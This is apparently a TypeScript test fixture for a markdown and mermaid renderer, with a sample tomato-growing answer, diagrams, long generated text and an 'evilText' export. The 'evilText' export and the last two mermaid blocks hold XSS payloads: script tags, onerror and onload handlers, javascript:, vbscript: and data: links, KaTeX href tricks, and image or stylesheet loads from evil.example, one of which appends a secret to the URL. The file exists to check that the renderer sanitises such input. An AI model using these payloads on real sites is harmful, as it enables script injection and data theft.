/** An answer with everything that an answer can hold. */
export const richText = `## Growing tomatoes on a balcony

Tomatoes want **sun**, *warmth* and \`water\`. Here is what matters, and [more about it](https://example.org/tomatoes).

1. Choose a small variety.
2. Take a pot of at least 20 litres.
   - with holes in its bottom
   - on feet, so that water runs off

| Month | Work | Water |
| --- | :---: | ---: |
| March | Sow indoors | 0.2 l |
| May | Plant out | 1.0 l |
| July | Tie up, pinch out | 2.5 l |

> Never water the leaves.

\`\`\`python
def water(temperature: float, litres: float = 1.0) -> float:
    """How much a plant drinks on a day."""
    if temperature > 30:  # a hot day
        return litres * 2.5
    return litres
\`\`\`

The growth follows $N(t) = N_0 e^{rt}$, and over a season

$$
\\int_0^T N(t)\\,dt = \\frac{N_0}{r}\\left(e^{rT} - 1\\right)
$$

- [x] Buy soil
- [ ] Buy stakes, which cost $3 to $5

![A plant](https://pictures.example.org/plant.png)
`;

const PICTURE = "https://evil.example/steal.png";

/** Diagrams of several kinds, one of which is none. */
export const drawnText = `Here is how it works:

\`\`\`mermaid
flowchart TD
  A[Seed] --> B{Warm enough?}
  B -- yes --> C[Sprout]
  B -- no --> A
\`\`\`

And who talks to whom:

\`\`\`mermaid
sequenceDiagram
  Gardener->>Plant: water
  Plant-->>Gardener: tomatoes
\`\`\`

This one is broken:

\`\`\`mermaid
flowchart TD
  A[Seed --> ]]
\`\`\`

And this one does more than it should:

\`\`\`mermaid
flowchart TD
  A["<img src=x onerror='window.pwned=20'><script>window.pwned=21</script>"] --> B
  click A "javascript:window.pwned=22"
  click B href "https://evil.example/" _top
\`\`\`

And this one wants a picture from elsewhere:

\`\`\`mermaid
flowchart TD
  A@{ img: "https://evil.example/steal.png", label: "Stolen", w: 60, h: 60 }
\`\`\`

Done.
`;

/** Everything that would do harm if any of it became more than text. */
export const evilText = `<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><style>@import url(https://evil.example/a.css);</style></svg>
<iframe src="https://evil.example/frame"></iframe>

[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [tab](java\tscript:window.pwned=6)

![steal](${PICTURE}) ![x](${PICTURE}?q=secret "onerror=alert(1)")

<a href="javascript:window.pwned=7">go</a> &lt;script&gt; <b>bold</b>

\`\`\`html
<script>window.pwned = 8</script><img src=x onerror=window.pwned=9>
\`\`\`

\`\`\`mermaid
graph TD; A["<img src=x onerror='window.pwned=10'>"] --> B; click A "javascript:window.pwned=11"
\`\`\`

$\\href{javascript:window.pwned=12}{x}$ $\\includegraphics{${PICTURE}}$ $\\class{evil}{\\style{background:url(${PICTURE})}{y}}$

| <img src=x onerror=window.pwned=13> | b |
| --- | --- |
| [z](vbscript:window.pwned=14) | <style>body{background:url(${PICTURE})}</style> |
`;

const languages = {
  js: (line: number) => `  const value${line} = await load("key-${line}", { retries: ${line % 7} }); // line ${line}\n`,
  rust: (line: number) => `    let value_${line}: Option<&str> = map.get(&${line}).map(|found| found.as_str());\n`,
  python: (line: number) => `    value_${line} = [row["name"] for row in rows if row["id"] > ${line}]  # line ${line}\n`,
} as const;

const repeated = (count: number, make: (index: number) => string) => Array.from({ length: count }, (_, index) => make(index)).join("");
const sentence = (index: number) => `Sentence ${index} says **something** about \`value_${index}\`, and [more](https://example.org/${index}). `;

/**
 * A text of 20,000 tokens of four characters and more: `chapters` of everything that an answer holds, one `program`, or one
 * `paragraph`.
 */
export function longText(kind: string): string {
  const code = (language: keyof typeof languages, lines: number) => `\`\`\`${language}\n${repeated(lines, languages[language])}\`\`\`\n`;
  if (kind === "program") return `Here it is:\n\n${code("rust", 1_200)}`;
  if (kind === "paragraph") return repeated(1_200, sentence);
  const rows = repeated(8, (index) => `| row ${index} | ${index * 7} | \`cell\` |\n`);
  const chapter = (index: number) =>
    `\n\n## Chapter ${index}\n\n${repeated(6, sentence)}\n\n- one\n- two\n  - nested\n\n| a | b | c |\n| --- | ---: | --- |\n${rows}\n` +
    code((["js", "rust", "python"] as const)[index % 3] ?? "js", 20);
  return repeated(40, chapter);
}
